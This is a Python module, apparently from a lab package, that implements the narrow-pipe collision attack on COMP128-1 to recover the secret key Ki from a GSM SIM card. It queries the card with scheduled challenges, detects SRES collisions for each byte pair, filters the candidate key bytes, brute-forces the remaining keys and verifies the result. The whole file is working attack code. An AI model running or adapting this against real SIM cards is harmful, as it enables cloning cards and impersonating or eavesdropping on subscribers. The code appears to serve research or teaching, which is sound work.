"""Recover Ki from a SIM that will answer RUN GSM ALGORITHM.

Narrow-pipe attack on COMP128-1.  For byte pair i, the second butterfly level
of the first round leaves the values at positions i, i+8, i+16 and i+24 as
a function of (ki[i], ki[i+8], rand[i], rand[i+8]) only: 28 bits.  Varying
rand[i] and rand[i+8] with the rest of RAND fixed, two challenges that meet
in those 28 bits produce identical SRES and Kc.  Once such a pair has been
seen, the 2**16 possibilities for (ki[i], ki[i+8]) are filtered offline.

Challenges are taken from a prepared schedule (see tools/build_rand_schedule.py)
that front-loads the challenges most likely to complete a collision.  The
last byte pair is normally left to an offline search over all 2**16 values,
checked against recorded card answers.
"""

import math
from dataclasses import dataclass, field
from functools import lru_cache
from importlib import resources

import numpy as np

from .comp128 import comp128v1, comp128v1_many, narrow_pipe, pack_narrow_pipe
from .sim_card import CardLocked

N_PAIRS = 8
ALL_PAIRS = 1 << 16


class BudgetExceeded(Exception):
    def __init__(self, pair_index, queries, exhausted=False):
        why = "schedule exhausted" if exhausted else "query budget exceeded"
        super().__init__(f"pair {pair_index}: {why} after {queries} queries")
        self.pair_index = pair_index
        self.queries = queries
        # True when every challenge for this pair was tried without a collision
        self.exhausted = exhausted


class AmbiguityUnresolved(Exception):
    pass


@lru_cache(maxsize=None)
def prepared_schedule():
    raw = resources.files("iridium_lab").joinpath("data/rand_schedule.bin").read_bytes()
    return np.frombuffer(raw, dtype=">u2").astype(np.int64)


@lru_cache(maxsize=None)
def collision_free_pairs():
    """Key pairs whose narrow pipe is injective over all 2**16 challenges."""
    raw = resources.files("iridium_lab").joinpath("data/collision_free.bin").read_bytes()
    return frozenset(int(k) for k in np.frombuffer(raw, dtype=">u2"))


def random_schedule(seed):
    return np.random.default_rng(seed).permutation(ALL_PAIRS)


@dataclass(frozen=True)
class CollisionRecord:
    pair_index: int
    rand_a: bytes
    rand_b: bytes
    sres: bytes

    def __post_init__(self):
        i = self.pair_index
        if not 0 <= i < N_PAIRS:
            raise ValueError("pair_index must be in 0..7")
        if self.rand_a == self.rand_b:
            raise ValueError("a collision needs two distinct challenges")
        diff = [j for j in range(16) if self.rand_a[j] != self.rand_b[j]]
        if not set(diff) <= {i, i + 8}:
            raise ValueError(f"challenges differ outside bytes {i} and {i + 8}")


@dataclass
class CrackState:
    candidates: dict = field(default_factory=dict)
    query_count: int = 0
    recovered: bytes | None = None
    # per pair: queries spent, collisions used, candidate-set size after each
    pair_log: dict = field(default_factory=dict)
    transcripts: list = field(default_factory=list)
    spurious: int = 0


@dataclass
class CrackConfig:
    budget_per_pair: int = 1 << 17
    batch_size: int = 64
    ambiguity_limit: int = 1 << 24
    baseline: bytes = bytes(16)
    schedule: str = "prepared"  # or "random"
    seed: int = 0
    defer_last_pair: bool = True
    # stop gathering collisions for a pair once this few candidates remain
    max_residual: int = 16
    max_collisions_per_pair: int = 4
    n_transcripts: int = 3


def _query_many(oracle, rands, state):
    many = getattr(oracle, "run_gsm_algorithm_many", None)
    try:
        if many is not None:
            results = many(rands)
        else:
            results = [oracle.run_gsm_algorithm(bytes(r)) for r in rands]
    except CardLocked as exc:
        state.query_count += len(exc.answered)
        raise
    state.query_count += len(results)
    return results


def _rands_for(pair_index, baseline, values):
    rands = np.tile(np.frombuffer(bytes(baseline), dtype=np.uint8), (len(values), 1))
    rands[:, pair_index] = values >> 8
    rands[:, pair_index + 8] = values & 0xFF
    return rands


def collision_search(oracle, pair_index, state, *, baseline=bytes(16), budget=1 << 17,
                     batch_size=64, schedule=None):
    """Yield successive SRES collisions for one byte pair.

    Raises BudgetExceeded when the budget runs out or every challenge has been
    tried; ``exhausted`` tells the two apart.
    """
    if not 0 <= pair_index < N_PAIRS:
        raise ValueError("pair_index must be in 0..7")
    schedule = prepared_schedule() if schedule is None else np.asarray(schedule)
    seen = {}
    spent = 0
    pos = 0
    while pos < len(schedule):
        if spent >= budget:
            raise BudgetExceeded(pair_index, spent)
        chunk = schedule[pos:pos + min(batch_size, budget - spent)]
        rands = _rands_for(pair_index, baseline, chunk)
        results = _query_many(oracle, rands, state)
        spent += len(chunk)
        if pos == 0 and len(state.transcripts) < N_PAIRS:
            state.transcripts.append((rands[0].tobytes(), results[0]))
        hits = []
        for rand, res in zip(rands, results):
            key = bytes(res)
            rand = rand.tobytes()
            other = seen.get(key)
            if other is None:
                seen[key] = rand
            else:
                hits.append(CollisionRecord(pair_index, other, rand, res.sres))
        pos += len(chunk)
        log = state.pair_log.setdefault(pair_index, {"queries": 0, "sizes": []})
        log["queries"] = spent
        for rec in hits:
            yield rec
    raise BudgetExceeded(pair_index, spent, exhausted=True)


def find_collision(oracle, pair_index, *, state=None, baseline=bytes(16), budget=1 << 17,
                   batch_size=64, schedule=None):
    state = CrackState() if state is None else state
    search = collision_search(oracle, pair_index, state, baseline=baseline, budget=budget,
                              batch_size=batch_size, schedule=schedule)
    return next(search)


def candidate_mask(collision, k_hi=None, k_lo=None):
    """Boolean mask over key pairs consistent with ``collision``.

    Without explicit ``k_hi``/``k_lo`` this covers all 2**16 pairs, indexed as
    ``k_hi << 8 | k_lo``.
    """
    if k_hi is None:
        k = np.arange(ALL_PAIRS)
        k_hi, k_lo = k >> 8, k & 0xFF
    i = collision.pair_index
    a, b = collision.rand_a, collision.rand_b
    sa = pack_narrow_pipe(narrow_pipe(k_hi, k_lo, a[i], a[i + 8]))
    sb = pack_narrow_pipe(narrow_pipe(k_hi, k_lo, b[i], b[i + 8]))
    return sa == sb


def filter_candidates(collision):
    """All (ki[i], ki[i+8]) byte pairs under which the two challenges collide."""
    hits = np.nonzero(candidate_mask(collision))[0]
    return {(int(k >> 8), int(k & 0xFF)) for k in hits}


def _assemble_keys(pair_values, index):
    """Keys for flat indices into the Cartesian product of per-pair candidates."""
    keys = np.zeros((len(index), 16), dtype=np.uint8)
    rest = index
    for i in reversed(range(N_PAIRS)):
        vals = pair_values[i]
        pick = vals[rest % len(vals)]
        rest = rest // len(vals)
        keys[:, i] = pick >> 8
        keys[:, i + 8] = pick & 0xFF
    return keys


def brute_force(candidates, transcripts, chunk=1 << 16):
    """Keys from the candidate product that reproduce every recorded answer."""
    pair_values = [np.array(sorted((h << 8) | l for h, l in candidates[i]), dtype=np.int64)
                   for i in range(N_PAIRS)]
    total = math.prod(len(v) for v in pair_values)
    first_rand, first_res = transcripts[0]
    want = np.frombuffer(bytes(first_res), dtype=np.uint8)
    found = []
    for start in range(0, total, chunk):
        index = np.arange(start, min(total, start + chunk), dtype=np.int64)
        keys = _assemble_keys(pair_values, index)
        sres, kc = comp128v1_many(keys, np.frombuffer(first_rand, dtype=np.uint8))
        ok = np.all(np.concatenate([sres, kc], axis=1) == want, axis=1)
        for key in keys[ok]:
            key = key.tobytes()
            if all(comp128v1(key, r) == res for r, res in transcripts[1:]):
                found.append(key)
    return found


def recover_key(oracle, config=None):
    """Run the full attack; returns (ki, CrackState).

    Errors raised on the way (BudgetExceeded, CardLocked, AmbiguityUnresolved)
    carry the partial CrackState as ``exc.crack_state``.
    """
    config = CrackConfig() if config is None else config
    state = CrackState()
    try:
        return _recover(oracle, config, state)
    except (BudgetExceeded, CardLocked, AmbiguityUnresolved) as exc:
        exc.crack_state = state
        raise


def _recover(oracle, config, state):
    schedule = prepared_schedule() if config.schedule == "prepared" else random_schedule(config.seed)
    everything = {(k >> 8, k & 0xFF) for k in range(ALL_PAIRS)}

    for i in range(N_PAIRS):
        known = math.prod(len(state.candidates[j]) for j in range(i))
        if (i == N_PAIRS - 1 and config.defer_last_pair
                and known * ALL_PAIRS <= config.ambiguity_limit):
            state.candidates[i] = everything
            state.pair_log[i] = {"queries": 0, "sizes": [ALL_PAIRS], "deferred": True}
            break
        cands = None
        collisions = 0
        search = collision_search(oracle, i, state, baseline=config.baseline,
                                  budget=config.budget_per_pair,
                                  batch_size=config.batch_size, schedule=schedule)
        try:
            for rec in search:
                found = filter_candidates(rec)
                if not found:
                    # full-output collision that is not a narrow-pipe one
                    state.spurious += 1
                    continue
                cands = found if cands is None else (cands & found or found)
                collisions += 1
                state.pair_log[i]["sizes"].append(len(cands))
                if len(cands) <= config.max_residual or collisions >= config.max_collisions_per_pair:
                    break
        except BudgetExceeded as exc:
            if cands is None:
                if not exc.exhausted:
                    raise
                # no collision anywhere: the pair must be one of the injective ones
                cands = {(k >> 8, k & 0xFF) for k in collision_free_pairs()}
                state.pair_log[i]["sizes"].append(len(cands))
        search.close()
        state.candidates[i] = cands
        state.pair_log[i]["collisions"] = collisions

    product = math.prod(len(c) for c in state.candidates.values())
    if product > config.ambiguity_limit:
        raise AmbiguityUnresolved(f"{product} candidate keys exceed the limit {config.ambiguity_limit}")
    transcripts = state.transcripts[:config.n_transcripts]
    keys = brute_force(state.candidates, transcripts)
    if len(keys) != 1:
        raise AmbiguityUnresolved(f"{len(keys)} keys match the recorded answers")
    state.recovered = keys[0]
    return keys[0], state


def verify_key(oracle, candidate, n=3, rng=None):
    """Compare a candidate Ki with the card on ``n`` fresh random challenges."""
    if n < 1:
        raise ValueError("need at least one challenge")
    rng = np.random.default_rng() if rng is None else rng
    for _ in range(n):
        rand = rng.integers(0, 256, 16, dtype=np.uint8).tobytes()
        if comp128v1(candidate, rand) != oracle.run_gsm_algorithm(rand):
            return False
    return True


def format_transcript(state):
    lines = []
    for i in sorted(state.pair_log):
        log = state.pair_log[i]
        size = len(state.candidates.get(i, ())) or (log["sizes"][-1] if log["sizes"] else 0)
        tag = " deferred" if log.get("deferred") else ""
        lines.append(f"pair {i} queries {log['queries']} collisions {log.get('collisions', 0)} "
                     f"candidates {size}{tag}")
    key = state.recovered.hex() if state.recovered else "-"
    lines.append(f"total queries {state.query_count} key {key}")
    return "\n".join(lines) + "\n"
